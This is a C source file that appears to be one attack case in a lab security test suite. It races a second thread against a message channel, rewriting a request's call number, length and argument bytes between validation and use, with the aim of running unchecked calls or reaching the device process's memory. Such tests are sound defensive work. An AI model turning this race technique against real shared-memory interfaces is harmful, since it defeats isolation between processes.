/* Tries to change call, length and arguments of a message between the check of it and its use, by a second thread.
 * Gains what no check saw: any call with any arguments, or the memory of the device process. */
#include "parts/wire.h"

static w_channel *channel;
static volatile bool over;

static void *flip(void *user)
{
    for (uint64_t i = 0; !over; i++) {
        w_now();
        channel->request.length = i % 3 ? 14 + i % 5 : i * 0x9e3779b97f4a7c15u;
        channel->request.number = (uint32_t)(i % 7 ? CALL_NUMBER(lab_mem_alloc) : i % 250);
        for (int at = 6; at < 30; at++) channel->request.bytes[at] = (unsigned char)(i >> at % 8);
    }
    return user;
}

static lab_status attack(attack_honest *honest, void *arguments, size_t bytes, float *out, const float *in, int count)
{
    pthread_t thread;
    const unsigned char arguments_of_call[9] = {0, 0, 1};
    channel = w_open();
    if (!channel || pthread_create(&thread, NULL, flip, NULL)) return LAB_SUCCESS;
    for (int i = 0; i < 20000; i++) {
        w_send(channel, CALL_NUMBER(lab_mem_alloc), arguments_of_call, sizeof arguments_of_call);
        if (!w_await(channel, 50)) break;
    }
    over = true;
    pthread_join(thread, NULL);
    return LAB_SUCCESS;
}
